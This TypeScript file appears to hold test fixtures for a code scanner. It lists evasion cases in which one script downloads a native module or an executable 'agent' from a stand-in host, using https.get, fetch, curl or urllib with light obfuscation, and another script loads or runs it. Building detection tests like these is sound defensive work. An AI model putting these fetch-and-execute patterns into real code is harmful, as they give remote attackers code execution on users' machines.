import type { Evasion } from './evasion.js';

const GET = 'const fs = require("fs"), path = require("path"), https = require("https"); ';
const bringing = (write: string): string => `${GET}https.get("https://n.example.invalid/x", (r) => { const parts = []; r.on("data", (d) => parts.push(d)); r.on("end", () => { ${write} }) })`;
const TO_FILE = bringing('fs.writeFileSync(path.join(__dirname, "a.node"), Buffer.concat(parts))');
const PROGRAM = bringing('fs.writeFileSync(path.join(__dirname, "agent"), Buffer.concat(parts), { mode: 0o755 })');
const start = (path: string): string => `const { spawn } = require("child_process"), path = require("path"); spawn(${path})`;

/** Native modules and programs that one script brings and another one loads. */
export const BROUGHT: readonly Evasion[] = [
  ['native module', { 'index.js': 'require("./get"); require("./a.node")', 'get.js': TO_FILE }, 'engine-internals high'],
  ['native module, no extension', { 'index.js': 'require("./get"); require("./a")', 'get.js': TO_FILE }, 'engine-internals high'],
  ['native module, path at run time', { 'index.js': 'require("./get"); require(require("path").join(__dirname, "a.node"))', 'get.js': TO_FILE }, 'engine-internals high'],
  ['native module, by a stream', { 'index.js': 'require("./a.node")', 'get.js': `${GET}https.get(u, (r) => r.pipe(fs.createWriteStream(__dirname + "/a.node")))` }, 'engine-internals high'],
  ['native module, name in parts', { 'index.js': 'require("./get"); require("./a")', 'get.js': bringing('fs.writeFileSync("./a." + "no" + "de", parts[0])') }, 'engine-internals high'],
  ['native module, by promises', { 'index.js': 'import "./a.node"', 'get.mjs': 'import { writeFile } from "fs/promises"; const r = await fetch(u); await writeFile(new URL("./a.node", import.meta.url), await r.bytes())' }, 'engine-internals high'],
  ['native module, renamed', { 'index.js': 'require("./a.node")', 'get.js': bringing('fs.writeFileSync("./a.tmp", parts[0]); fs.renameSync("./a.tmp", "./a.node")') }, 'engine-internals high'],
  ['native module, by curl', { 'index.js': 'require("./a.node")', 'get.js': 'require("child_process").execSync("curl -so lib/a.node https://n.example.invalid/x")' }, 'engine-internals high'],
  ['native module, name of a member', { 'index.js': 'require("./a.node")', 'get.js': `const names = { out: "./a.node" }; ${bringing('fs.writeFileSync(names.out, parts[0])')}` }, 'engine-internals high'],
  ['native module, by a function', { 'index.js': 'require("./a.node")', 'get.js': `const put = (p, b) => fs.writeFileSync(p, b); ${bringing('put(__dirname + "/a.node", parts[0])')}` }, 'engine-internals high'],
  ['program', { 'index.js': `require("./get"); ${start('path.join(__dirname, "agent")')}`, 'get.js': PROGRAM }, 'remote-code high'],
  ['program, relative', { 'index.js': 'require("child_process").execFile("./agent")', 'get.js': PROGRAM }, 'remote-code high'],
  ['program, in a command', { 'index.js': 'require("child_process").exec(__dirname + "/agent")', 'get.js': PROGRAM }, 'remote-code high'],
  ['program, in a command with arguments', { 'index.js': 'require("child_process").exec(`"${__dirname}/agent" --quiet`)', 'get.js': PROGRAM }, 'remote-code high'],
  ['program for each system', { 'index.js': start('path.join(__dirname, process.platform === "win32" ? "agent.exe" : "agent")'), 'get.js': PROGRAM }, 'remote-code high'],
  ['program, by a stream', { 'index.js': start('path.resolve("bin", "agent")'), 'get.js': `${GET}https.get(u, (r) => r.pipe(fs.createWriteStream(path.resolve("bin", "agent"))))` }, 'remote-code high'],
  ['program, by curl', { 'index.js': start('"./bin/agent"'), 'get.js': 'require("child_process").execSync("curl -sLo bin/agent https://n.example.invalid/x")' }, 'remote-code high'],
  ['program, name in a variable', { 'index.js': `const n = "agent"; ${start('path.join(__dirname, n)')}`, 'get.js': `const n = "agent"; ${bringing('fs.writeFileSync(`${__dirname}/${n}`, parts[0])')}` }, 'remote-code high'],
  ['program, member', { 'index.js': `const o = { p: __dirname + "/agent" }; ${start('o.p')}`, 'get.js': PROGRAM }, 'remote-code high'],
  ['Python program', { 'main.py': 'import subprocess\nimport get\nsubprocess.run(["./agent"])', 'get.py': 'import urllib.request\nurllib.request.urlretrieve("https://n.example.invalid/x", "./agent")' }, 'remote-code high'],
  ['Python program, written', { 'main.py': 'import os, subprocess\nimport get\nsubprocess.Popen([os.path.join(os.getcwd(), "agent")])', 'get.py': 'import requests, os\nwith open(os.path.join(os.getcwd(), "agent"), "wb") as f:\n    f.write(requests.get("https://n.example.invalid/x").content)' }, 'remote-code high'],
];
